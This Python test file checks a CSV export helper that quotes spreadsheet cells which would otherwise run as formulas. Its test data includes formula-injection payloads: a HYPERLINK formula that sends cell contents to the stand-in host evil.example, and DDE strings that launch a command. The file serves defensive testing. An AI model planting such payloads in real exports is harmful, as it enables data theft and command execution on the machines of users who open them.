"""CSV a spreadsheet opens as data: text that would run as a formula is quoted, numbers stay numbers."""

from __future__ import annotations

import csv
import io

import pandas as pd
import pytest

from account_playbooks.core.csvfile import spreadsheet_cell, to_csv

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1, "open")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",  # spreadsheets skip the spaces
    "\n=1+1",
    "\uff1d1+1",  # a full-width equals sign
    "-",
    "=",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_text_that_would_run_as_a_formula_gets_a_leading_quote(text):
    assert spreadsheet_cell(text) == "'" + text


@pytest.mark.parametrize("value", [-12.5, -3, 0, 7.25, 1e6, "-12.5", "+3", "-0.5", "1e6", "-1E-3", ".5",
                                   "Bo Chen", "a=b", "Score 4 -> 5", "", None, True])
def test_numbers_and_ordinary_text_are_left_as_they_are(value):
    assert spreadsheet_cell(value) is value


def test_a_frame_keeps_its_number_columns_and_quotes_its_text_cells_labels_and_headers():
    frame = pd.DataFrame({"author": ["=cmd|' /C calc'!A0", "Bo Chen"], "score": [-1.5, 2.0], "delta": [-3, 4],
                          "=header": ["-10", "@x"]}, index=pd.Index(["+a", "b"], name="account"))
    text = to_csv(frame, lineterminator="\n")
    rows = list(csv.reader(io.StringIO(text)))
    assert rows == [["account", "author", "score", "delta", "'=header"],
                    ["'+a", "'=cmd|' /C calc'!A0", "-1.5", "-3", "-10"],
                    ["b", "Bo Chen", "2.0", "4", "'@x"]]
    assert frame.loc["+a", "author"] == "=cmd|' /C calc'!A0"  # the caller's frame is not changed


def test_categories_and_missing_values_are_written_as_pandas_writes_them():
    frame = pd.DataFrame({"tier": pd.Categorical(["=gold", None]), "n": [1, None]})
    assert to_csv(frame, index=False, lineterminator="\n") == "tier,n\n'=gold,1.0\n,\n"
